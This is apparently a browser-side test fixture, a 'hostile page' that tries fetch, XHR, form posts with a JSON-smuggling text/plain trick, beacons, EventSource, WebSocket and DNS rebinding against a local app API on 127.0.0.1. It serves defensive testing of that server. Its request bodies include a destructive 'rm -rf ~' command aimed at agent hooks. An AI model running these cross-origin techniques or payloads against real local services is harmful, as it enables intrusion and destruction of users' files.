// A hostile page. It tries every way a web page has to reach an HTTP server on 127.0.0.1 and do
// something there, then reports to the test's page server what each attempt let it see.
//
// The test fills in `window.attackSuite` = {suite, base, rebind, report, token, hookToken, shelfPath}:
// `base` is the server under attack ("http://127.0.0.1:<port>"), or with `rebind` the page's own
// origin, whose name is made to lead to that server once the page has loaded; `report` is where the
// findings go. The tokens are the real ones of the island, as if the page had stolen them. Every
// request carries `?attack=<suite>.<route>.<technique>` so that a recording server can tell which
// attempts reached it.

const settle = (promise, milliseconds = 3000) =>
    Promise.race([promise, new Promise(resolve => setTimeout(() => resolve({outcome: "timeout"}), milliseconds))]);

const suite = window.attackSuite;

const hookPayload = JSON.stringify({
    session_id: "pwn", hook_event_name: "PreToolUse", tool_name: "Bash",
    tool_input: {command: "rm -rf ~"}, cwd: "/tmp",
});

// Every route, with the body that would do harm if it were obeyed.
const routes = [
    {name: "status", method: "GET", path: "/v1/status"},
    {name: "register", method: "POST", path: "/v1/register",
     body: JSON.stringify({app: "evil", name: "Evil", scopes: ["activities", "hud", "shelf", "agents"]})},
    {name: "activity", method: "POST", path: "/v1/activities", body: JSON.stringify({id: "pwn", title: "pwned"})},
    {name: "end", method: "DELETE", path: "/v1/activities/victim"},
    {name: "hud", method: "POST", path: "/v1/hud", body: JSON.stringify({kind: "custom", text: "pwned"})},
    {name: "shelf", method: "POST", path: "/v1/shelf", body: JSON.stringify({paths: [suite.shelfPath]})},
    {name: "events", method: "GET", path: "/v1/events"},
    {name: "hook", method: "POST", path: "/v1/agents/hook?agent=claude-code&", body: hookPayload},
    {name: "agent", method: "POST", path: "/v1/agents/event",
     body: JSON.stringify({event: "permission", session: "pwn", tool: "Bash", command: "rm -rf ~"})},
];

function urlOf(route, technique, base = suite.base) {
    const separator = route.path.includes("?") ? "" : "?";
    return `${base}${route.path}${separator}attack=${suite.suite}.${route.name}.${technique}`;
}

const stolenHeaders = () => ({
    "Content-Type": "application/json",
    "Authorization": `Bearer ${suite.token}`,
    "x-vantaquill-hook": suite.hookToken,
});

// What a response let the page see: a status other than 0 or any body text is knowledge. An event
// stream never ends, so the body is what arrived within a second.
async function readResponse(response) {
    let body = "";
    if (response.body) {
        const reader = response.body.getReader();
        const decoder = new TextDecoder();
        const deadline = Date.now() + 1000;
        for (;;) {
            const chunk = await settle(reader.read().catch(() => ({done: true})), Math.max(0, deadline - Date.now()));
            if (chunk.outcome === "timeout" || chunk.done)
                break;
            body += decoder.decode(chunk.value, {stream: true});
        }
        reader.cancel().catch(() => {});
    }
    return {outcome: response.type, status: response.status, body, learned: response.status !== 0 || body !== ""};
}

function viaFetch(route, technique, options) {
    const init = {method: route.method, ...options};
    if (route.body !== undefined && route.method !== "GET")
        init.body = route.body;
    return fetch(urlOf(route, technique), init)
        .then(readResponse, error => ({outcome: "network-error", detail: String(error), learned: false}));
}

function viaXHR(route, technique, withHeaders, withCredentials) {
    return new Promise(resolve => {
        const request = new XMLHttpRequest();
        request.open(route.method, urlOf(route, technique));
        request.withCredentials = withCredentials;
        if (withHeaders)
            for (const [name, value] of Object.entries(stolenHeaders()))
                request.setRequestHeader(name, value);
        request.onload = () => resolve({outcome: "load", status: request.status, body: request.responseText,
                                        learned: request.status !== 0 || request.responseText !== ""});
        request.onerror = () => resolve({outcome: "error", status: request.status, learned: request.status !== 0});
        request.send(route.method === "GET" ? null : route.body ?? null);
    });
}

// A form posted into a frame of its own: the frame loads whatever comes back, the page cannot look in.
function viaForm(route, technique, enctype, base = suite.base) {
    return new Promise(resolve => {
        const frame = document.createElement("iframe");
        frame.name = `frame-${technique}-${route.name}-${Math.random().toString(36).slice(2)}`;
        document.body.appendChild(frame);
        const form = document.createElement("form");
        form.method = "POST";
        form.enctype = enctype;
        form.action = urlOf(route, technique, base);
        form.target = frame.name;
        // text/plain sends name=value: a name ending in `"` and a value of `"}` make the body JSON.
        const body = route.body ?? "{}";
        const input = document.createElement("input");
        input.type = "hidden";
        input.name = body.slice(0, -1) + ',"pad":"';
        input.value = '"}';
        form.appendChild(input);
        document.body.appendChild(form);
        frame.onload = () => {
            let seen = null;
            try { seen = frame.contentDocument ? frame.contentDocument.body.innerText : null; } catch (error) { seen = null; }
            resolve({outcome: "frame-loaded", body: seen ?? "", learned: seen !== null && seen !== ""});
        };
        form.submit();
    });
}

function viaElement(route, technique, tag) {
    return new Promise(resolve => {
        const element = document.createElement(tag);
        element.onload = () => resolve({outcome: "load", learned: true});
        element.onerror = () => resolve({outcome: "error", learned: false});
        element.src = urlOf(route, technique);
        document.body.appendChild(element);
    });
}

function viaBeacon(route, technique, type) {
    let queued = false;
    try {
        const data = type ? new Blob([route.body ?? "{}"], {type}) : route.body ?? "{}";
        queued = navigator.sendBeacon(urlOf(route, technique), data);
    } catch (error) {
        return Promise.resolve({outcome: "refused-by-browser", detail: String(error), learned: false});
    }
    // A beacon's answer never reaches the page; `queued` only says the browser took it.
    return Promise.resolve({outcome: queued ? "queued" : "not-queued", learned: false});
}

function viaEventSource(route, technique, withCredentials) {
    return new Promise(resolve => {
        const source = new EventSource(urlOf(route, technique), {withCredentials});
        const messages = [];
        const finish = outcome => {
            source.close();
            resolve({outcome, body: messages.join("\n"), learned: messages.length > 0});
        };
        source.addEventListener("hello", event => { messages.push(event.data); finish("message"); });
        source.onmessage = event => { messages.push(event.data); finish("message"); };
        source.onerror = () => finish("error");
    });
}

function viaWebSocket(route, technique) {
    return new Promise(resolve => {
        const url = urlOf(route, technique).replace(/^http/, "ws");
        let socket;
        try { socket = new WebSocket(url); } catch (error) {
            resolve({outcome: "refused-by-browser", learned: false});
            return;
        }
        let opened = false;
        socket.onopen = () => { opened = true; socket.send(route.body ?? "{}"); socket.close(); };
        socket.onerror = () => resolve({outcome: "error", learned: opened});
        socket.onclose = () => resolve({outcome: opened ? "opened" : "closed", learned: opened});
    });
}

function attemptsFor(route) {
    const attempts = [
        ["fetch-simple", () => viaFetch(route, "fetch-simple", {})],
        ["fetch-credentials", () => viaFetch(route, "fetch-credentials", {credentials: "include"})],
        ["fetch-preflight", () => viaFetch(route, "fetch-preflight", {headers: stolenHeaders()})],
        ["fetch-preflight-credentials",
         () => viaFetch(route, "fetch-preflight-credentials", {headers: stolenHeaders(), credentials: "include"})],
        ["xhr-simple", () => viaXHR(route, "xhr-simple", false, false)],
        ["xhr-preflight", () => viaXHR(route, "xhr-preflight", true, true)],
        ["img", () => viaElement(route, "img", "img")],
        ["script", () => viaElement(route, "script", "script")],
    ];
    // no-cors allows only GET, HEAD and POST, and silently drops the JSON content type and the token.
    if (route.method !== "DELETE")
        attempts.push(["fetch-no-cors", () => viaFetch(route, "fetch-no-cors", {mode: "no-cors", headers: stolenHeaders()})]);
    if (route.method === "POST") {
        attempts.push(["form-text", () => viaForm(route, "form-text", "text/plain")]);
        attempts.push(["form-urlencoded", () => viaForm(route, "form-urlencoded", "application/x-www-form-urlencoded")]);
        attempts.push(["beacon-text", () => viaBeacon(route, "beacon-text", null)]);
        attempts.push(["beacon-json", () => viaBeacon(route, "beacon-json", "application/json")]);
    }
    if (route.name === "events") {
        attempts.push(["eventsource", () => viaEventSource(route, "eventsource", false)]);
        attempts.push(["eventsource-credentials", () => viaEventSource(route, "eventsource-credentials", true)]);
        attempts.push(["websocket", () => viaWebSocket(route, "websocket")]);
    }
    return attempts;
}

async function run() {
    if (suite.rebind) {
        await fetch("/rebind");
        suite.base = location.origin;
    }
    const results = [];
    for (const route of routes) {
        for (const [technique, attempt] of attemptsFor(route)) {
            const result = await settle(attempt());
            results.push({attack: `${suite.suite}.${route.name}.${technique}`, route: route.name, technique, ...result});
        }
    }
    await fetch(suite.report, {method: "POST", mode: "no-cors",
                               body: JSON.stringify({suite: suite.suite, origin: location.origin, results})});
    if (window.parent !== window)
        window.parent.postMessage("done", "*");
}

run();
